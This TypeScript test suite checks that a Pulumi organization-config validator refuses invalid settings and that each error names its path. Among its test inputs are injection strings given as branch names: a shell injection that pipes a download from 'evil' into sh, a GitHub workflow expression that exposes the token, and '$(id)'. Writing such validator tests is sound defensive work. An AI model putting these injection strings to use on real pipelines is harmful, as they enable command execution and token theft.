import assert from "node:assert/strict";
import * as pulumi from "@pulumi/pulumi";
import { ConfigError, formatIssue, validateConfig } from "../model/config";
import { loadOrgConfig } from "../model/load";
import { checkName } from "../model/names";
import { programFromEntries } from "../components/program";
import { entriesOf, exampleDoc, key, StackDoc } from "./support/examples";

interface Case {
  readonly what: string;
  readonly edit: (doc: StackDoc) => void;
  /** Every path that must be reported, each with a fragment of its message. */
  readonly expect: readonly [path: string, fragment: string | RegExp][];
  readonly stack?: "prod" | "dev";
}

const c = (doc: StackDoc) => doc.config;

const CASES: Case[] = [
  {
    what: "an unknown top-level key",
    edit: (d) => (c(d)["secure-org:tenants"] = ["a"]),
    expect: [["tenants", 'unknown config key "secure-org:tenants"']],
  },
  {
    what: "a misspelled key inside a team",
    edit: (d) => {
      c(d)[key.teams][0].memebrs = ["x"];
    },
    expect: [["teams[0].memebrs", 'unknown key "memebrs"; allowed keys here:']],
  },
  {
    what: "a misspelled key suggests the right one",
    edit: (d) => {
      c(d)[key.tiers][1].deploy.aprovers = ["platform"];
    },
    expect: [["tiers[1].deploy.aprovers", 'did you mean "approvers"?']],
  },
  {
    what: "a list where a mapping is expected",
    edit: (d) => (c(d)[key.github] = ["acme"]),
    expect: [["github", "expected object, got a list"]],
  },
  {
    what: "a string where a list is expected",
    edit: (d) => (c(d)[key.teams][0].members = "alice"),
    expect: [["teams[0].members", 'expected array, got string "alice"']],
  },
  {
    what: "a missing organization",
    edit: (d) => delete c(d)[key.organization],
    expect: [["organization", "is required"]],
  },
  {
    what: "an organization name Pulumi Cloud refuses",
    edit: (d) => (c(d)[key.organization] = "acme corp"),
    expect: [["organization", '"acme corp" is not allowed']],
  },
  {
    what: "a team name with upper case",
    edit: (d) => (c(d)[key.teams][0].name = "Platform"),
    expect: [["teams[0].name", '"Platform" is not allowed']],
  },
  {
    what: "a GitHub login with a leading hyphen",
    edit: (d) => (c(d)[key.teams][0].githubMembers[1] = "-bob"),
    expect: [["teams[0].githubMembers[1]", '"-bob" is not allowed']],
  },
  {
    what: "a duplicate team",
    edit: (d) => (c(d)[key.teams][2].name = "payments"),
    expect: [["teams[2].name", 'duplicate team "payments" (first declared at teams[1])']],
  },
  {
    what: "a duplicate project",
    edit: (d) => (c(d)[key.projects][1].name = "payments"),
    expect: [["projects[1].name", 'duplicate project "payments"']],
  },
  {
    what: "a duplicate tier",
    edit: (d) => (c(d)[key.tiers][1].name = "dev"),
    expect: [["tiers[1].name", 'duplicate tier "dev"']],
  },
  {
    what: "a duplicate member",
    edit: (d) => c(d)[key.teams][0].members.push("alice"),
    expect: [["teams[0].members[2]", 'duplicate member "alice"']],
  },
  {
    what: "access to an unknown project",
    edit: (d) => (c(d)[key.teams][1].access = { paymnts: "developer" }),
    expect: [['teams[1].access["paymnts"]', 'unknown project "paymnts"']],
  },
  {
    what: "access with an undefined role",
    edit: (d) => (c(d)[key.teams][1].access = { payments: "owner" }),
    expect: [['teams[1].access["payments"]', 'role "owner" is not defined by any tier']],
  },
  {
    what: "a project on an unknown tier",
    edit: (d) => (c(d)[key.projects][0].tiers.qa = {}),
    expect: [["projects[0].tiers.qa", 'unknown tier "qa"']],
  },
  {
    what: "an approver that is not a team",
    edit: (d) => (c(d)[key.tiers][2].deploy.approvers = ["platfrom", "security"]),
    expect: [["tiers[2].deploy.approvers[0]", 'unknown team "platfrom"']],
  },
  {
    what: "approvers on a tier without a pipeline",
    edit: (d) => (c(d)[key.tiers][0].deploy.approvers = ["platform"]),
    expect: [["tiers[0].deploy.approvers", "approvers need a pipeline"]],
  },
  {
    what: "an approver team without a GitHub mirror on a github-actions tier",
    edit: (d) => delete c(d)[key.teams][3].githubMembers,
    expect: [["tiers[2].deploy.approvers[1]", 'team "security" has no githubMembers']],
  },
  {
    what: "developers with stack write on a protected tier",
    edit: (d) => (c(d)[key.tiers][2].roles.developer.stack = "write"),
    expect: [["tiers[2].roles.developer.stack", '"write" is not allowed on a protected tier']],
  },
  {
    what: "maintainers with stack admin on a protected tier",
    edit: (d) => (c(d)[key.tiers][2].roles.maintainer.stack = "admin"),
    expect: [["tiers[2].roles.maintainer.stack", '"admin" is not allowed on a protected tier']],
  },
  {
    what: "developers who can open a protected environment",
    edit: (d) => (c(d)[key.tiers][2].roles.developer.environment = "open"),
    expect: [["tiers[2].roles.developer.environment", '"open" is not allowed on a protected tier']],
  },
  {
    what: "auditors who can write a protected environment",
    edit: (d) => (c(d)[key.tiers][2].roles.auditor.environment = "write"),
    expect: [["tiers[2].roles.auditor.environment", '"write" is not allowed on a protected tier']],
  },
  {
    what: "break-glass with a one-word justification",
    edit: (d) => (c(d)[key.tiers][2].roles.oncall.breakGlass.justification = "incidents"),
    expect: [["tiers[2].roles.oncall.breakGlass.justification", "at least 20 visible characters"]],
  },
  {
    what: "break-glass on an unprotected tier",
    edit: (d) =>
      (c(d)[key.tiers][0].roles.oncall.breakGlass = {
        justification: "because on-call needs this in dev too",
      }),
    expect: [["tiers[0].roles.oncall.breakGlass", "only applies to protected tiers"]],
  },
  {
    what: "break-glass on a role with nothing elevated",
    edit: (d) =>
      (c(d)[key.tiers][2].roles.auditor.breakGlass = {
        justification: "auditors need this for the yearly review",
      }),
    expect: [["tiers[2].roles.auditor.breakGlass", "holds no elevated permission"]],
  },
  {
    what: "a break-glass duration that is not a duration",
    edit: (d) => (c(d)[key.tiers][2].roles.oncall.breakGlass.maxOpenDuration = "forever"),
    expect: [["tiers[2].roles.oncall.breakGlass.maxOpenDuration", 'use a duration such as "15m"']],
  },
  {
    what: "a protected tier deployed directly",
    edit: (d) => {
      const t = c(d)[key.tiers][2];
      t.deploy = { mode: "direct" };
      delete t.driftDetection;
    },
    expect: [["tiers[2].deploy.mode", '"direct" is not allowed on a protected tier']],
  },
  {
    what: "a pipeline without a branch",
    edit: (d) => delete c(d)[key.tiers][1].deploy.branch,
    expect: [["tiers[1].deploy.branch", 'is required for deploy mode "github-actions"']],
  },
  {
    what: "a branch that would inject into a shell",
    edit: (d) => (c(d)[key.tiers][1].deploy.branch = "main;curl${IFS}evil|sh"),
    expect: [["tiers[1].deploy.branch", "is not allowed"]],
  },
  {
    what: "a branch that would inject a workflow expression",
    edit: (d) => (c(d)[key.tiers][1].deploy.branch = "${{ github.token }}"),
    expect: [["tiers[1].deploy.branch", "is not allowed"]],
  },
  {
    what: "a work dir that escapes the repository",
    edit: (d) => (c(d)[key.projects][0].workDir = "../other"),
    expect: [["projects[0].workDir", '"../other" is not allowed']],
  },
  {
    what: "a repository name with a space",
    edit: (d) => (c(d)[key.projects][0].repository = "payments infra"),
    expect: [["projects[0].repository", '"payments infra" is not allowed']],
  },
  {
    what: "an unknown stack permission",
    edit: (d) => (c(d)[key.tiers][0].roles.developer.stack = "owner"),
    expect: [
      ["tiers[0].roles.developer.stack", '"owner" is not allowed; use one of: "none", "read"'],
    ],
  },
  {
    what: "an org default above read",
    edit: (d) => (c(d)[key.defaults].stackPermission = "write"),
    expect: [["defaults.stackPermission", '"write" is not allowed; use one of: "none", "read"']],
  },
  {
    what: "zero required approvals",
    edit: (d) => (c(d)[key.tiers][2].deploy.requiredApprovals = 0),
    expect: [["tiers[2].deploy.requiredApprovals", ">=1"]],
  },
  {
    what: "a protected pipeline without approvers",
    edit: (d) => {
      c(d)[key.tiers][2].deploy.approvers = [];
      delete c(d)[key.tiers][2].deploy.requiredApprovals;
    },
    expect: [["tiers[2].deploy.approvers", "a protected tier needs at least one approver team"]],
  },
  {
    what: "drift detection on a tier without a pipeline",
    edit: (d) => (c(d)[key.tiers][0].driftDetection = { schedule: "0 * * * *" }),
    expect: [["tiers[0].driftDetection", "drift detection needs a pipeline"]],
  },
  {
    what: "a drift schedule that is not cron",
    edit: (d) => (c(d)[key.tiers][2].driftDetection.schedule = "every hour"),
    expect: [["tiers[2].driftDetection.schedule", "5-field cron expression"]],
  },
  {
    what: "a project switching a direct tier to a pipeline",
    edit: (d) => (c(d)[key.projects][0].tiers.dev = { mode: "github-actions" }),
    expect: [["projects[0].tiers.dev.mode", "can only switch between pipeline modes"]],
  },
  {
    what: "two tiers of a project sharing one stack",
    edit: (d) => (c(d)[key.projects][0].tiers.staging = { stack: "dev" }),
    expect: [["projects[0].tiers.staging.stack", 'stack "dev" is already used by tier dev']],
  },
  {
    what: "the bootstrap outside the platform repository",
    edit: (d) => (c(d)[key.projects][2].repository = "somewhere-else"),
    expect: [
      ["projects[2].repository", "the bootstrap project lives in github.platformRepository"],
    ],
  },
  {
    what: "the bootstrap deploying through Pulumi Deployments",
    edit: (d) => (c(d)[key.projects][2].tiers.prod = { mode: "pulumi-deployments" }),
    expect: [["projects[2].tiers.prod", "must not manage its own deployment settings"]],
  },
  {
    what: "two bootstrap projects",
    edit: (d) => (c(d)[key.projects][1].bootstrap = true),
    expect: [["projects[2].bootstrap", "only one project can be the bootstrap program"]],
  },
  {
    what: "a human team named like a pipeline identity",
    edit: (d) => c(d)[key.teams].push({ name: "payments-prod-deploy", members: ["mallory"] }),
    expect: [["teams[5].name", "is reserved for the pipeline identity of projects[0].tiers.prod"]],
  },
  {
    what: "a project that deploys to no tier",
    edit: (d) => c(d)[key.projects].push({ name: "idle", repository: "idle", tiers: {} }),
    expect: [["projects[3].tiers", "list at least one tier this project deploys to"]],
  },
  {
    what: "no platform team while github-actions pipelines exist",
    edit: (d) => delete c(d)[key.github].platformTeam,
    expect: [["github.platformTeam", "is required when a tier deploys with github-actions"]],
  },
  {
    what: "a role mapped to a repository permission that no tier defines",
    edit: (d) => (c(d)[key.roles].ghost = { repository: "admin" }),
    expect: [["roles.ghost", 'role "ghost" is not defined by any tier']],
  },
  {
    what: "no teams at all",
    edit: (d) => (c(d)[key.teams] = []),
    expect: [["teams", "declare at least one team"]],
  },
  {
    what: "a webhook over plain http",
    edit: (d) => (c(d)[key.audit].webhooks[0].url = "http://hooks.example.com/x"),
    expect: [["audit.webhooks[0].url", "must use https://"]],
  },
  {
    what: "a webhook scoped to an unknown tier",
    edit: (d) => (c(d)[key.audit].webhooks[1].scope.tier = "production"),
    expect: [["audit.webhooks[1].scope.tier", 'unknown tier "production"']],
  },
  {
    what: "a webhook with both groups and filters",
    edit: (d) => (c(d)[key.audit].webhooks[0].filters = ["update_failed"]),
    expect: [["audit.webhooks[0]", "set either groups or filters, not both"]],
  },
  {
    what: "a webhook filter the service does not know",
    edit: (d) => (c(d)[key.audit].webhooks[1].filters = ["update_exploded"]),
    expect: [["audit.webhooks[1].filters[0]", '"update_exploded" is not allowed']],
  },
  {
    what: "a webhook secret that is not set",
    edit: (d) => delete c(d)["secure-org:siemWebhookSecret"],
    expect: [
      [
        "siemWebhookSecret",
        "is referenced by audit.webhooks[] (secretConfigKey or urlSecretConfigKey) but not set",
      ],
    ],
  },
  {
    what: "a webhook secret set in plain text",
    edit: (d) => (c(d)["secure-org:siemWebhookSecret"] = "hunter2"),
    expect: [["siemWebhookSecret", "must be a secret: run `pulumi config set --secret"]],
  },
  {
    what: "a policy key stored as a secret",
    edit: (d) => (c(d)[key.organization] = { secure: "AAAB" }),
    expect: [["organization", "is a policy, not a secret"]],
  },
  {
    what: "a token lifetime above what any generated job asks for",
    edit: (d) => (c(d)["secure-org:oidc"].maxExpirationSeconds = 86400),
    expect: [["oidc.maxExpirationSeconds", "at most 3600 seconds"]],
  },
];

describe("config: the examples", () => {
  for (const stack of ["prod", "dev"] as const)
    it(`Pulumi.${stack}.yaml validates`, () => {
      const r = loadOrgConfig(entriesOf(exampleDoc(stack)));
      assert.ok(r.ok, r.ok ? "" : r.errors.map(formatIssue).join("\n"));
    });

  it("the prod example's warnings are its deliberate choices, each with its path", () => {
    const r = loadOrgConfig(entriesOf(exampleDoc("prod")));
    assert.ok(r.ok);
    assert.deepEqual(
      r.warnings.map((w) => [w.severity, w.code, w.path]),
      [
        ["medium", "protected-stack-read", "tiers[2].roles.maintainer.stack"],
        // Per use (issue 28): approved for each open by another team, so reported as info.
        ["info", "break-glass-per-use", "tiers[2].roles.oncall"],
      ],
    );
  });

  it("applies the documented defaults", () => {
    const doc = exampleDoc("dev");
    const r = loadOrgConfig(entriesOf(doc));
    assert.ok(r.ok);
    const checkout = r.config.projects.find((p) => p.name === "checkout");
    assert.equal(checkout?.defaultBranch, "main");
    const search = r.config.projects.find((p) => p.name === "search");
    assert.equal(search?.workDir, ".");
    assert.equal(r.config.oidc.maxExpirationSeconds, 3600);
    assert.equal(r.config.defaults.membersCanCreateTeams, false);
    assert.equal(r.config.tiers[1].deploy.timeoutMinutes, 60);
    assert.equal(r.config.tiers[1].deploy.manualDispatch, false);
  });
});

describe("config: every rejection names its path and how to fix it", () => {
  // Mocks that count registrations: an invalid config must register nothing.
  let registered = 0;
  before(async () => {
    await pulumi.runtime.setMocks(
      {
        newResource: (args) => {
          registered++;
          return { id: `${args.name}-id`, state: args.inputs };
        },
        call: () => ({}),
      },
      "secure-org",
      "config-test",
      false,
    );
  });

  it(`has at least 30 distinct invalid configs (${CASES.length})`, () => {
    assert.ok(CASES.length >= 30);
    assert.equal(new Set(CASES.map((x) => x.what)).size, CASES.length);
  });

  for (const tc of CASES)
    it(`rejects ${tc.what}`, () => {
      const doc = exampleDoc(tc.stack ?? "prod");
      tc.edit(doc);
      const r = loadOrgConfig(entriesOf(doc));
      assert.equal(r.ok, false, `${tc.what} was accepted`);
      if (r.ok) return;
      for (const [path, fragment] of tc.expect) {
        const hit = r.errors.find(
          (e) =>
            e.path === path &&
            (typeof fragment === "string"
              ? e.message.includes(fragment)
              : fragment.test(e.message)),
        );
        assert.ok(
          hit,
          `expected ${path}: …${String(fragment)}… among:\n${r.errors.map(formatIssue).join("\n")}`,
        );
      }
      // Nothing is registered for an invalid config: the program throws before building.
      const before = registered;
      assert.throws(() => programFromEntries(entriesOf(doc)), ConfigError);
      assert.equal(registered, before);
    });

  it("reports every problem at once, shape and policy alike", () => {
    const doc = exampleDoc("prod");
    c(doc)[key.teams][0].memebrs = [];
    c(doc)[key.tiers][2].roles.developer.stack = "write";
    c(doc)[key.projects][0].tiers.qa = {};
    c(doc)[key.tiers][1].deploy.branch = "bad branch";
    c(doc)[key.teams][1].access = { nope: "developer" };
    const r = loadOrgConfig(entriesOf(doc));
    assert.ok(!r.ok);
    if (r.ok) return;
    assert.deepEqual(
      r.errors.map((e) => e.path).sort(),
      [
        "projects[0].tiers.qa",
        'teams[1].access["nope"]',
        "teams[0].memebrs",
        "tiers[1].deploy.branch",
        "tiers[2].roles.developer.stack",
      ].sort(),
    );
  });

  it("ConfigError lists every problem, one per line, path first", () => {
    const doc = exampleDoc("prod");
    c(doc)[key.organization] = "acme corp";
    c(doc)[key.tiers][2].roles.developer.stack = "admin";
    const err = (() => {
      try {
        programFromEntries(entriesOf(doc));
      } catch (e) {
        return e as Error;
      }
      return undefined;
    })();
    assert.ok(err instanceof ConfigError);
    assert.match(err.message, /^invalid secure-org config \(2 problems\):\n/);
    assert.match(err.message, /\n {2}organization: "acme corp" is not allowed/);
    assert.match(
      err.message,
      /\n {2}tiers\[2\]\.roles\.developer\.stack: "admin" is not allowed on a protected tier/,
    );
  });

  it("accepts a standing break-glass grant with its own justification and reports it high", () => {
    const r = validateConfig({
      organization: "acme",
      github: { owner: "acme", platformRepository: "platform" },
      teams: [{ name: "ops", members: ["o"], access: { "*": "oncall" } }],
      tiers: [
        {
          name: "prod",
          protected: true,
          roles: {
            oncall: {
              stack: "write",
              environment: "open",
              breakGlass: {
                justification: "incident response, approved by the CISO (SEC-1)",
                // Stack write cannot be approved per use (ESC gates opens only): standing, with
                // its own written reason.
                standing: true,
                standingJustification: "no second on-call team exists to approve each use yet",
                maxDuration: "1h",
              },
            },
          },
          deploy: { mode: "pulumi-deployments", branch: "main", approvers: ["ops"] },
        },
      ],
      projects: [{ name: "app", repository: "app", tiers: { prod: {} } }],
    });
    assert.ok(r.ok, r.ok ? "" : r.errors.map(formatIssue).join("\n"));
    assert.deepEqual(
      r.warnings.map((w) => [w.code, w.path]),
      [
        ["break-glass", "tiers[0].roles.oncall"],
        ["no-admins-declared", "admins"],
        // ops has members but no GitHub team, and app deploys from GitHub (the GitHub App).
        ["team-without-github-members", "teams[0].githubMembers"],
      ],
    );
    assert.match(r.warnings[0].message, /stack "write" and environment "open"/);
    if (r.ok) assert.equal(r.config.tiers[0].roles.oncall.breakGlass?.maxDuration, "1h");
  });

  it("derives pipeline team names that must not collide", () => {
    const r = validateConfig({
      organization: "acme",
      github: { owner: "acme", platformRepository: "platform" },
      teams: [{ name: "ops", members: ["o"], access: { "*": "dev" } }],
      tiers: [
        { name: "c", roles: {}, deploy: { mode: "pulumi-deployments", branch: "main" } },
        { name: "b-c", roles: {}, deploy: { mode: "pulumi-deployments", branch: "main" } },
      ],
      projects: [
        { name: "a-b", repository: "one", tiers: { c: {} } },
        { name: "a", repository: "two", tiers: { "b-c": {} } },
      ],
    });
    assert.ok(!r.ok);
    if (r.ok) return;
    assert.ok(
      r.errors.some(
        (e) =>
          e.path === "projects[1].tiers.b-c" &&
          e.message.includes('"a-b-c-deploy" is also derived for projects[0].tiers.c'),
      ),
      r.errors.map(formatIssue).join("\n"),
    );
  });
});

describe("config: name rules", () => {
  const table: [Parameters<typeof checkName>[0], string, boolean][] = [
    ["branch", "main", true],
    ["branch", "release/v1.2", true],
    ["branch", "a..b", false],
    ["branch", "x/", false],
    ["branch", "$(id)", false],
    ["branch", "feat//x", false],
    ["branch", "a.lock", false],
    ["branch", "-x", false],
    ["workDir", ".", true],
    ["workDir", "infra/app", true],
    ["workDir", "a/./b", false],
    ["workDir", "/abs", false],
    ["workDir", "a/", false],
    ["workDir", "a b", false],
    ["githubLogin", "a-b", true],
    ["githubLogin", "a--b", false],
    ["githubLogin", "a-", false],
    ["team", "platform", true],
    ["team", "plat_form", false],
    ["repository", ".github", false],
    ["repository", "my.repo", true],
    ["organization", "acme-1", true],
    ["identifier", "Prod", false],
  ];
  for (const [kind, value, ok] of table)
    it(`${kind} ${JSON.stringify(value)} is ${ok ? "accepted" : "refused"}`, () =>
      assert.equal(checkName(kind, value) === undefined, ok));

  it("refuses over-long names", () =>
    assert.match(checkName("team", "x".repeat(61)) ?? "", /longer than 60 characters/));
});
